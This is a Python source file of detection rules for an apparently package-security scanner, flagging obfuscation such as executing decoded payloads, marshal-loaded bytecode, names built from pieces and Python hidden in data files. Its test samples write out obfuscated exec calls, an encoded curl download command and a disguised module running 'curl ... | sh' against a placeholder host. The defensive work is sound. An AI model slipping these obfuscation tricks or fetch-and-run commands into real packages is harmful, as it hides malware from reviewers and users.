"""obfuscation.*: code hidden from readers (decoded payloads, folded names, blobs)."""

from __future__ import annotations

import base64
import hashlib
import marshal
import string

from pipwarden.findings import Severity
from pipwarden.rules import Where
from pipwarden.scan.facts import Fact, Observation
from pipwarden.scan.rules._base import CRITICAL, HIGH, LOW, MEDIUM, negative, positive, rule
from pipwarden.scan.rules._samples import B64, INERT, NOISY, zip_of

ALPHA = string.ascii_letters
SUB = ALPHA[::-1]


def _pyarmor(o: Observation) -> Severity | None:
    return pyarmor_severity(o.where or Where.RUNTIME) if o.fact is Fact.PYARMOR_RUN else None


def _reversed(o: Observation) -> Severity | None:
    return REVERSED_NAME if o.fact is Fact.NAME_REVERSED else None


def _compiled(o: Observation) -> Severity | None:
    """A shipped .pyc (naming dangerous calls, or not), as `compiled_module_severity`."""
    return compiled_module_severity(o.names_danger) if o.fact is Fact.COMPILED_MODULE else None


RULES = [
    rule(
        "obfuscation.exec-decoded",
        CRITICAL,
        "CWE-506",
        "Decoded or obfuscated data is executed",
        "Data decoded from a literal (base64, hex, zlib, rot13, chr chains, reversed strings, "
        "marshal) reaches exec/eval/compile or a process: a hidden payload.",
        "Do not install; decode the payload offline to see what it does.",
        samples=(
            positive(f"import base64\nexec(base64.b64decode({B64!r}))\n"),
            negative("exec(compile(open('version.py').read(), 'version.py', 'exec'))\n"),
            # A substitution cipher: each character looked up in a shuffled alphabet.
            positive(
                lambda: (
                    "import string\nA = string.ascii_letters\nR = A[::-1]\n"
                    "exec(''.join([R[A.index(c)] if c in R else c for c in "
                    f"{''.join(SUB[ALPHA.index(c)] if c in SUB else c for c in INERT)!r}]))\n"
                )
            ),
            negative(
                "import string\nA = string.ascii_letters\nR = A[::-1]\n"
                "def mirror(text):\n    return ''.join([R[A.index(c)] if c in R else c for c in text])\n"
            ),
            # A decoding method defined below the method that runs what it returns.
            positive(
                f"import base64\nclass P:\n    code = {B64!r}\n"
                "    def run(self):\n        exec(self.decode(self.code))\n"
                "    def decode(self, s):\n        return base64.b64decode(s).decode()\n"
            ),
        ),
        when=(Fact.DECODED_DATA_EXECUTED, Fact.EXEC_DECODED_TEXT),
    ),
    rule(
        "obfuscation.marshal-literal",
        HIGH,
        "CWE-506",
        "Bytecode or pickle loaded from a literal",
        "marshal/pickle loads of a literal embed compiled code that no reader can review.",
        "Ask the maintainers for the source; do not install meanwhile.",
        samples=(
            positive(
                lambda: (
                    f"import marshal\nc = marshal.loads({marshal.dumps(compile(INERT, 'x', 'exec'))!r})\n"
                )
            ),
            negative("import marshal\ndef load(f):\n    return marshal.loads(f.read())\n"),
            # Bytecode cut into chunks kept apart and glued back together.
            positive(
                "import marshal\nA, B, C = b'\\xe3', b'\\x00', b'\\x01'\nc = marshal.loads(A + B + C)\n"
            ),
            negative(
                "import marshal\ndef load(head, body):\n    return marshal.loads(head + body)\n"
            ),
        ),
        when=(Fact.EMBEDDED_CODE_LOADED, Fact.PYARMOR_RUN),
        severity_of=_pyarmor,
    ),
    rule(
        "obfuscation.hidden-name",
        HIGH,
        "CWE-506",
        "Dangerous name built from pieces",
        "A sensitive function or module (exec, eval, os, subprocess, ...) is named through a "
        "computed string (concatenation, chr, decoding) in getattr/__import__.",
        "Review the code; normal code names these directly.",
        samples=(
            positive("f = getattr(__builtins__, 'ex' + 'ec')\n"),
            # A name written in escape codes, looked up in the namespace ("eval").
            positive("run = globals()['\\x65\\x76\\x61\\x6c']\n"),
            # Character codes folded in two comprehensions, the outer one through str().
            positive(
                "m = __import__(''.join([str(c) for c in [chr(i) for i in "
                "(98, 117, 105, 108, 116, 105, 110, 115)]]))\n"
            ),
            negative("f = getattr(obj, 'name')\n"),
            negative("run = globals()['eval']\nNUL = '\\x00\\x01'\n"),
        ),
        when=(Fact.NAME_COMPUTED, Fact.NAME_REVERSED),
        severity_of=_reversed,
    ),
    rule(
        "obfuscation.decoded-command",
        HIGH,
        "CWE-506",
        "Download command hidden in an encoded literal",
        "A base64, hex or otherwise encoded literal decodes to a command line that fetches a "
        "URL (curl, wget, certutil, Invoke-WebRequest, ...): a download hidden from review, "
        "whether or not the code that runs it is found.",
        "Decode the literal and check what it fetches and what runs it.",
        samples=(
            positive(
                "import base64\ndef cmd():\n    return base64.b64decode("
                f"{base64.b64encode(b'curl.exe --output a.css --url https://example.invalid/a.css').decode()!r})\n"
            ),
            negative(
                "import base64\ndef cmd():\n    return base64.b64decode("
                f"{base64.b64encode(b'see https://example.invalid/help for curl options').decode()!r})\n"
            ),
        ),
        when=(Fact.DECODED_DOWNLOAD_COMMAND,),
    ),
    rule(
        "obfuscation.junk-padding",
        HIGH,
        "CWE-506",
        "setup.py padded with junk assignments",
        "setup.py assigns dozens of constants (random names, random strings or numbers) that "
        "nothing reads: obfuscators pad code so, to bury the few lines that matter (a "
        "requirement name built from pieces, a payload).",
        "Read what the padding hides: the setup() call and whatever it is given.",
        samples=(
            positive(
                lambda: (
                    "".join(f"v{(i * 7919) % 100003} = {(i * 31) % 997}\n" for i in range(40))
                    + "a = 'x'\nb = 'yz'\nfrom setuptools import setup\n"
                    "setup(name='p', install_requires=[a + b])\n"
                ),
                "setup.py",
                "sdist",
            ),
            negative(
                "NAME = 'p'\nVERSION = '1.0'\nURL = 'https://example.invalid'\n"
                "AUTHOR = 'A'\nLICENSE = 'MIT'\nfrom setuptools import setup\n"
                "setup(name=NAME, version=VERSION)\n",
                "setup.py",
                "sdist",
            ),
        ),
        when=(Fact.JUNK_PADDING,),
    ),
    rule(
        "obfuscation.builtin-alias",
        HIGH,
        "CWE-506",
        "Code-running builtins renamed",
        "exec, eval, compile or __import__ is bound to another name together with other "
        "builtins in one tuple assignment (`a, b, c = exec, str, globals`): obfuscators do this "
        "so the call that runs the payload names none of them.",
        "Review the code; normal code calls these builtins by their names.",
        samples=(
            positive("from builtins import *\nRun, Text, Many, Walk = exec, str, tuple, map\n"),
            negative("x, y, z = str, int, float\nrun = exec\n"),
        ),
        when=(Fact.BUILTINS_RENAMED,),
    ),
    rule(
        "obfuscation.encoded-blob",
        LOW,
        "CWE-506",
        "Long encoded blob",
        "A long base64 or hex literal; may be data, may be a payload.",
        "Check what decodes and uses the blob.",
        samples=(
            positive(f"BLOB = {base64.b64encode(bytes(range(256)) * 2).decode()!r}\n"),
            negative(f"NAME = {'abcdefgh_' * 40!r}\n"),
        ),
        when=(Fact.ENCODED_LITERAL,),
    ),
    rule(
        "obfuscation.high-entropy",
        LOW,
        "CWE-506",
        "High-entropy literal",
        "A long literal with near-random characters (encrypted or compressed data).",
        "Check what uses the literal.",
        samples=(
            positive("K = '" + "".join(NOISY[(i * 37) % len(NOISY)] for i in range(300)) + "'\n"),
            negative("K = '" + "ab" * 200 + "'\n"),
        ),
        when=(Fact.HIGH_ENTROPY_LITERAL,),
    ),
    rule(
        "obfuscation.bytecode-only",
        HIGH,
        "CWE-506",
        "Bytecode shipped without source",
        "A .pyc module ships outside __pycache__, or code loads bytecode with "
        "SourcelessFileLoader on import: the code cannot be reviewed (fshec2-style loaders).",
        "Ask for the source; do not install code nobody can read.",
        samples=(
            positive(
                "import importlib.machinery, os\n"
                "_l = importlib.machinery.SourcelessFileLoader('p.x', os.path.join("
                "os.path.dirname(__file__), 'x.pyc'))\n",
                "pkg/__init__.py",
            ),
            negative(
                "import importlib.machinery\n"
                "def load(name, path):\n"
                "    return importlib.machinery.SourcelessFileLoader(name, path)\n",
                "pkg/__init__.py",
            ),
        ),
        when=(Fact.BYTECODE_WITHOUT_SOURCE, Fact.PYARMOR_MODULE, Fact.COMPILED_MODULE),
        severity_of=_compiled,
    ),
    rule(
        "obfuscation.hidden-archive",
        HIGH,
        "CWE-506",
        "Python code hidden in an archive",
        "A data file (.dat, .png, ...) is really a zip holding Python modules, imported through "
        "zipimport or sys.path: the code escapes review. Its strong findings are reported too.",
        "Unpack and review the hidden modules; do not install meanwhile.",
        samples=(
            positive(
                lambda: zip_of(
                    {
                        "hidden/__init__.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
                    }
                ),
                "pkg/locale.dat",
            ),
            negative(
                lambda: zip_of({"fr/messages.json": '{"hello": "bonjour"}'}), "pkg/locale.dat"
            ),
        ),
        when=(Fact.MODULE_IN_ARCHIVE,),
        severity_of=lambda o: hidden_archive_severity(o.disguised),
    ),
    rule(
        "obfuscation.custom-codec",
        HIGH,
        "CWE-506",
        "Source in a custom encoding",
        "A Python file declares a source encoding Python does not have (`# -*- coding: x -*-`): "
        "a codec registered at start-up (by a .pth) rewrites it as it is read, so what runs is "
        "not what a reviewer sees.",
        "Do not install; decode the file with the package's codec and review the result.",
        samples=(
            positive("# -*- coding: utf8_compat -*-\nvzcbeg bf\n"),
            negative("# -*- coding: latin-1 -*-\nimport os\n"),
        ),
        when=(Fact.CUSTOM_CODEC,),
    ),
    rule(
        "obfuscation.encrypted-file",
        HIGH,
        "CWE-506",
        "Text file that holds encrypted bytes",
        "A file whose name says text or code (.txt, .json, .typed, .cfg, ...) holds kilobytes "
        "of near-random bytes with no format's header: an encrypted payload dressed as an "
        "ordinary file, for a loader (here or in a companion package) to decrypt and run. "
        "Real text, even compressed-looking base64, is far from random.",
        "Find what reads the file; do not install until it is explained.",
        samples=(
            positive(lambda: _random(), "pkg/_unistring.typed"),
            negative(lambda: _random(), "pkg/weights.bin"),  # binary data says so
            negative(lambda: base64.b64encode(_random()), "pkg/blob.txt"),
        ),
        when=(Fact.RANDOM_BYTES_AS_TEXT,),
    ),
]


def _random() -> bytes:
    """5 KiB of near-random bytes (a chain of digests), as an encrypted file holds."""
    return b"".join(hashlib.sha256(i.to_bytes(4, "big")).digest() for i in range(160))


#: hidden-name, for a builtin's name spelled backwards in a literal.
REVERSED_NAME = MEDIUM


def pyarmor_severity(where: Where) -> Severity:
    """marshal-literal, for PyArmor-encrypted code: high at install time, medium elsewhere
    (some vendors ship their libraries so)."""
    return HIGH if where is Where.INSTALL else MEDIUM


def compiled_module_severity(names_danger: bool) -> Severity:
    """bytecode-only, for a .pyc shipped as a module: high when its constants name
    commands, code or network calls, else medium."""
    return HIGH if names_danger else MEDIUM


def hidden_archive_severity(disguised: bool) -> Severity:
    """hidden-archive: high for a Python module inside a data file, medium inside a real
    archive."""
    return HIGH if disguised else MEDIUM
